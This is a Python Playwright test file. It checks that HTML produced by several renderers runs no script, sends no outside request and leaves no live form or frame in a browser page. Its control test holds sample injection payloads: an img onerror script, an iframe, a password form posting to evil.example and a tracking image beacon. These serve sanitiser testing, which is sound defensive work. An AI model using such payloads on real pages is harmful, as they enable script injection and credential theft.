"""Row D1 in a real browser: cards of every renderer in a page without any Content-Security-Policy."""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterable, Iterator
from http import HTTPStatus
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.browser import listen
from tests.page_checks import taken
from tests.renderers.comparing import Compared, all_compared
from tests.renderers.rendering import missing, render

LIVE = "script, iframe, frame, form, input, button, style, link, meta, base, img, svg, math, object, embed, video, a"
OUR_OWN = ("meta", "link")
"""In the head of the page that the cards stand in."""
AS_THEY_ARE = (
    '<img src=x onerror="window.taken=1">',
    "<iframe src=/beacon.html></iframe>",
    "<form action=https://evil.example/p><input type=password name=p></form>",
    "![scan](https://evil.example/beacon.png)",
)


class Pages:
    """A web server of 127.0.0.1 that shows one page at /."""

    def __init__(self) -> None:
        self.body = ""
        pages = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                found = self.path == "/"
                self.send_response(HTTPStatus.OK if found else HTTPStatus.NOT_FOUND)
                self.send_header("content-type", "text/html; charset=utf-8")
                self.end_headers()
                if found:
                    self.wfile.write(pages.body.encode())

            def log_message(self, *_: Any) -> None:
                """Nothing is logged."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/"
        Thread(target=self.server.serve_forever, daemon=True).start()

    def show(self, fragments: Iterable[str]) -> None:
        cards = "".join(f"<section>{fragment}</section>" for fragment in fragments)
        head = "<!DOCTYPE html><html><head><meta charset=utf-8><link rel=icon href=data:,><title>cards</title></head>"
        self.body = f"{head}<body>{cards}</body></html>"


@pytest.fixture(scope="module")
def pages() -> Iterator[Pages]:
    served = Pages()
    yield served
    served.server.shutdown()
    served.server.server_close()


@pytest.fixture(scope="module")
def every_card() -> list[Compared]:
    """Made before the browser opens, in whose presence no event loop may run."""
    if missing():
        pytest.skip(str(missing()))
    return all_compared()


@pytest.fixture(scope="module")
def browser(every_card: list[Compared], browser: Browser) -> Browser:
    return browser


def opened(page: Page, pages: Pages, fragments: Iterable[str]) -> dict[str, Any]:
    """What became of a page with these: live elements by tag, requests besides the page's own, and whether a script ran."""
    pages.show(fragments)
    heard = listen(page)
    page.goto(pages.url)
    elements = page.evaluate("live => [...document.querySelectorAll(live)].map(e => e.localName)", LIVE)
    with_attributes = "() => [...document.querySelectorAll('section *')].filter(e => e.attributes.length).length"
    return {
        "ran": taken(page),
        "elements": [tag for tag in elements if tag not in OUR_OWN],
        "with attributes": page.evaluate(with_attributes),
        "sections": page.locator("body > section").count(),
        "requests": [url for url in heard.requests if url != pages.url and not url.startswith("data:,")],
        "at": page.url,
        "visible": page.evaluate("() => document.body.innerText.length"),
    }


def test_d1_no_script_runs_no_request_leaves_no_form_or_frame_stands_there(
    every_card: list[Compared], page: Page, pages: Pages
) -> None:
    by_renderer: dict[str, list[str]] = defaultdict(list)
    for one in every_card:
        by_renderer[one.renderer].append(one.rendering.html)
    for renderer, cards in by_renderer.items():
        found = opened(page, pages, cards)
        assert found.pop("visible") > 100 * len(cards), renderer
        assert found == {
            "ran": False,
            "elements": [],
            "with attributes": 0,
            "sections": len(cards),
            "requests": [],
            "at": pages.url,
        }, renderer


def test_a_script_a_request_a_form_and_a_frame_would_be_seen(page: Page, pages: Pages) -> None:
    """Else the test above would show nothing."""
    found = opened(page, pages, (renderings["marked"].html for renderings in render(AS_THEY_ARE)))
    assert found["ran"]
    assert {"img", "iframe", "form", "input"} <= set(found["elements"])
    assert {"https://evil.example/beacon.png", f"{pages.url}x", f"{pages.url}beacon.html"} <= set(found["requests"])
